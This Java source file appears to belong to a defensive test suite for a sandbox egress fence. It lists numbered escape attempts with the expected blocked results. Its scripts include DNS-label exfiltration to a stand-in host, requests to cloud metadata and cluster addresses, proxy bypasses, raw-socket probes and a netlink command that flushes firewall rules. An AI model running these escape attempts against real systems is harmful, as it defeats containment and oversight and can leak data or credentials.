package dev.devsandbox.e2e.fence;

import java.util.List;
import java.util.regex.Pattern;

/**
 * One way out that someone inside a sandbox tries, with what a sound fence answers.
 *
 * @param rows numbers in the attack table of docs/security/threat-model.md
 * @param script run by {@code sh} as the user of the workspace
 * @param rightAnswer what the output must contain while the proxy lives
 * @param neverAnswer what the output must not contain, whatever happened to the proxy
 */
record Attack(String rows, String title, String script, Pattern rightAnswer, Pattern neverAnswer) {
  private static final Pattern WORLD_ANSWERED =
      Pattern.compile("\"proto\"|SSH-2.0|BEGIN CERT|LEAKED");

  private static Attack of(String rows, String title, String rightAnswer, String script) {
    return new Attack(
        rows, title, script, Pattern.compile(rightAnswer, Pattern.MULTILINE), WORLD_ANSWERED);
  }

  @Override
  public String toString() {
    return rows + " " + title;
  }

  /** Tries {@code code} for each of several targets and prints what came of each. */
  private static String python(String code) {
    return "python3 - <<'PYTHON'\nimport socket, os, errno, struct\n" + code + "\nPYTHON\n";
  }

  private static final String CURL = "curl -sk --max-time 5 ";
  private static final String STATUS = "-o /dev/null -w '%{http_code} %{http_connect}\\n' ";
  private static final String PROXY = "http://127.0.0.1:15002";

  private static final List<Attack> ALL =
      List.of(
          new Attack(
              "1",
              "an allowed SNI sent to a denied address never reaches that address",
              CURL
                  + "--connect-to allowed.test:443:203.0.113.66:443 https://allowed.test/; echo end",
              Pattern.compile("end"),
              Pattern.compile("203\\.0\\.113\\.66")),
          of(
              "2",
              "CONNECT to an allowed name with another SNI inside",
              "alert|unexpected eof|no peer certificate|errno",
              "openssl s_client -proxy 127.0.0.1:15002 -connect allowed.test:443 -servername denied.test"
                  + " </dev/null 2>&1"),
          of(
              "4",
              "TLS without SNI to the address of an allowed name",
              "alert|unexpected eof|no peer certificate|errno",
              "openssl s_client -noservername -connect 203.0.113.10:443 </dev/null 2>&1"),
          of(
              "14",
              "something that is not TLS on a TLS rule",
              "^closed$",
              "printf 'SSH-2.0-x\\r\\n' | timeout 5 nc -N git.test 443 2>&1; echo closed"),
          of(
              "28",
              "a port of an allowed name that no rule lists, by the proxy",
              "^(000|403) 403",
              CURL + STATUS + "-p -x " + PROXY + " http://allowed.test:25/"),
          of(
              "28",
              "a port of an allowed name that no rule lists, directly",
              "^ECONN|^closed",
              python(
                  """
                  s = socket.socket(); s.settimeout(4)
                  try:
                      s.connect(('allowed.test', 25)); print('LEAKED' if s.recv(10) else 'closed')
                  except OSError as e: print(errno.errorcode.get(e.errno, 'closed'))
                  """)),
          of(
              "40",
              "CONNECT to metadata, private, loopback and cluster addresses",
              "\\A(000 403\\n){9}\\Z",
              "for h in 169.254.169.254 10.43.0.1 127.0.0.1 '[::1]' '[fd00:ec2::254]' 192.168.64.1"
                  + " 168.63.129.16 100.100.100.200 '[::ffff:169.254.169.254]'; do "
                  + "curl -gsk --max-time 5 "
                  + STATUS
                  + "-p -x "
                  + PROXY
                  + " http://$h/; done"),
          new Attack(
              "43",
              "a name that is rebound to loopback is dialled only at a checked address",
              "python3 -c 'print(\"LEAK\"+\"ED\")' > /tmp/leak.html; cd /tmp;"
                  + " python3 -m http.server 80 --bind 127.0.0.1 >/dev/null 2>&1 & server=$!;"
                  + " for i in 1 2 3 4 5 6; do "
                  + CURL
                  + "http://rebind.allowed.test/leak.html; echo; done; kill $server; echo end",
              Pattern.compile("end"),
              Pattern.compile("LEAKED")),
          of(
              "44",
              "an allowed name that resolves to a private address",
              "403",
              CURL + "-w '%{http_code}' http://private.allowed.test/"),
          of(
              "51",
              "another resolver, by UDP, TCP and IPv6",
              "(NXDOMAIN[^N]*){3}",
              "for a in '@8.8.8.8' '@8.8.8.8 +tcp' '@2001:4860:4860::8888'; do"
                  + " dig +time=3 +tries=1 $a denied.test | grep -o 'status: [A-Z]*'; done"),
          of(
              "52",
              "data in the labels of a name that is not allowed",
              "NXDOMAIN",
              "dig +time=3 +tries=1 $(head -c30 /dev/urandom | base32 | tr -d = | cut -c1-40).evil.test"),
          of(
              "54",
              "record types other than addresses",
              "^$",
              "for t in TXT NULL ANY HTTPS SVCB MX; do"
                  + " dig +short +time=3 +tries=1 $t allowed.test | grep -v '^;'; done; echo"),
          of(
              "60",
              "ignoring every proxy variable",
              "^failed",
              "env -u HTTPS_PROXY -u https_proxy -u ALL_PROXY "
                  + CURL
                  + "--noproxy '*' https://denied.test/ || echo failed"),
          of(
              "61",
              "any TCP port of any address",
              "\\A((closed|ECONN[A-Z]*)\\n){5}\\Z",
              python(
                  """
                  for port in (22, 80, 443, 853, 5432):
                      s = socket.socket(); s.settimeout(4)
                      try:
                          s.connect(('203.0.113.66', port)); s.send(b'x\\n')
                          print('LEAKED' if s.recv(10) else 'closed')
                      except OSError as e: print(errno.errorcode.get(e.errno, 'closed'))
                  """)),
          of(
              "62",
              "UDP, IPv4 and IPv6",
              "\\A((EPERM|EACCES|EHOSTUNREACH)\\n){4}\\Z",
              python(
                  """
                  for family, host in ((socket.AF_INET, '203.0.113.66'), (socket.AF_INET6, '2001:db8:113::66')):
                      for port in (443, 9999):
                          s = socket.socket(family, socket.SOCK_DGRAM)
                          try:
                              s.sendto(b'x', (host, port)); print('sent')
                          except OSError as e: print(errno.errorcode[e.errno])
                  """)),
          of(
              "63",
              "ICMP echo, IPv4 and IPv6",
              // The kernel does not tell a sender of ICMPv6 that its packet was refused.
              "\\A(EPERM|EACCES)\\n(EPERM|EACCES|sent)\\n\\Z",
              python(
                  """
                  for family, proto, host, kind in ((socket.AF_INET, 1, '203.0.113.66', 8), (socket.AF_INET6, 58, '2001:db8:113::66', 128)):
                      try:
                          s = socket.socket(family, socket.SOCK_DGRAM, proto)
                          s.sendto(struct.pack('!BBHHH', kind, 0, 0, 1, 1), (host, 0)); print('sent')
                      except OSError as e: print(errno.errorcode[e.errno])
                  """)),
          of(
              "64",
              "IPv6 to a denied address",
              "^failed",
              CURL + "-g 'https://[2001:db8:113::66]/' || echo failed"),
          of(
              "65",
              "other transports: SCTP, DCCP, UDP-Lite, raw, packet sockets, vsock",
              "\\A(refused\\n){7}\\Z",
              python(
                  """
                  kinds = ((2, 1, 132), (2, 5, 132), (2, 6, 33), (2, 2, 136), (2, 3, 255), (17, 3, 0x300), (40, 1, 0))
                  for family, kind, proto in kinds:
                      try:
                          s = socket.socket(family, kind, proto); s.settimeout(3)
                          if family == 40: s.connect((2, 1))
                          elif proto == 136: s.sendto(b'x', ('203.0.113.66', 9999))
                          else: s.connect(('203.0.113.66', 9999)); s.send(b'x')
                          print('sent')
                      except OSError as e: print('refused')
                  """)),
          of(
              "65",
              "MPTCP is treated as TCP",
              "closed|ECONN|EPROTONOSUPPORT",
              python(
                  """
                  try:
                      s = socket.socket(socket.AF_INET, socket.SOCK_STREAM, 262); s.settimeout(4)
                      s.connect(('203.0.113.66', 7000)); s.send(b'LEAKED\\n')
                      print(s.recv(20).decode() or 'closed')
                  except OSError as e: print(errno.errorcode.get(e.errno, 'closed'))
                  """)),
          of(
              "93",
              "sockets bound to the pod's link, which keep it after the redirect",
              "\\A((closed|E[A-Z]+)\\n){4}\\Z",
              python(
                  """
                  for family, host in ((socket.AF_INET, '203.0.113.66'), (socket.AF_INET6, '2001:db8:113::66')):
                      for kind, port in ((socket.SOCK_STREAM, 7000), (socket.SOCK_DGRAM, 53)):
                          try:
                              s = socket.socket(family, kind); s.settimeout(3)
                              s.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, b'eth0')
                              s.connect((host, port)); s.send(b'stray\\n')
                              print('LEAKED' if s.recv(10) else 'closed')
                          except TimeoutError: print('closed')
                          except OSError as e: print(errno.errorcode.get(e.errno, 'closed'))
                  """)),
          of(
              "68",
              "becoming the proxy's user",
              "EPERM EPERM",
              python(
                  """
                  answers = []
                  for call in (os.setuid, os.setgid):
                      try: call(64321); answers.append('LEAKED')
                      except OSError as e: answers.append(errno.errorcode[e.errno])
                  print(*answers)
                  """)),
          of(
              "72",
              "deleting the rules",
              "EPERM",
              python(
                  """
                  s = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 12)
                  def message(kind, flags, seq, body): return struct.pack('=IHHII', 16 + len(body), kind, flags, seq, 0) + body
                  begin = message(0x10, 1, 0, struct.pack('=BBH', 0, 0, 0x0a00))
                  flush = message(0x0a02, 5, 1, struct.pack('=BBH', 0, 0, 0))
                  end = message(0x11, 1, 2, struct.pack('=BBH', 0, 0, 0x0a00))
                  try:
                      s.send(begin + flush + end); s.settimeout(3)
                      answer = s.recv(4096)
                      print(errno.errorcode.get(-struct.unpack('=i', answer[16:20])[0], 'LEAKED'))
                  except OSError as e: print(errno.errorcode.get(e.errno, 'EPERM'))
                  """)),
          of(
              "80",
              "an administration port of a sidecar, directly and by the proxy",
              "\\A(000 000\\n){3}(403 000\\n|000 403\\n)\\Z",
              "for p in 15000 15020 15021; do "
                  + CURL
                  + STATUS
                  + "http://127.0.0.1:$p/healthz; done; "
                  + CURL
                  + STATUS
                  + "-x "
                  + PROXY
                  + " http://127.0.0.1:15020/healthz"),
          of(
              "82",
              "the identity service by way of the proxy",
              "\\A(403 000\\n){2}\\Z",
              "for u in http://127.0.0.1:15004/v1/token http://169.254.170.23/; do "
                  + CURL
                  + STATUS
                  + "-H 'Devsandbox-Identity: true' -x "
                  + PROXY
                  + " $u; done"),
          of(
              "83",
              "the API server, the kubelet, the node and services",
              "\\A(000 000\\n){5}\\Z",
              "for u in https://10.43.0.1 https://10.99.0.1:6443 https://10.99.0.1:10250"
                  + " 'https://[fd00:99::1]:10250' http://10.43.0.10:8080; do curl -gsk --max-time 5 "
                  + STATUS
                  + "$u/; done"));

  /** Every attack of the table that this suite knows. */
  static List<Attack> all() {
    return ALL;
  }
}
